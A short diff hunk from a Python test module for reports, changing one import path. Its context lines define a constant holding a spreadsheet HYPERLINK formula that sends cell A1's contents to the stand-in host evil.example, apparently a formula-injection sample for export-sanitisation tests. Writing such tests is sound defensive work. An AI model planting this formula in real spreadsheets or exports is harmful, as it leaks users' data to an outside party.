@@ -13,7 +13,7 @@ from tests.auth.support import make_org
 from tests.conftest import RunningApp
 from tests.helpers import make_tenant_key
 from tests.reports.support import answered, at, store_facts
-from tests.reports.test_plans import ADMIN, plan
+from tests.plans.test_plans import ADMIN, plan
 
 TZ = "Europe/Berlin"
 HYPERLINK_QUEUE = '=HYPERLINK("http://evil.example/?d="&A1,"x")'
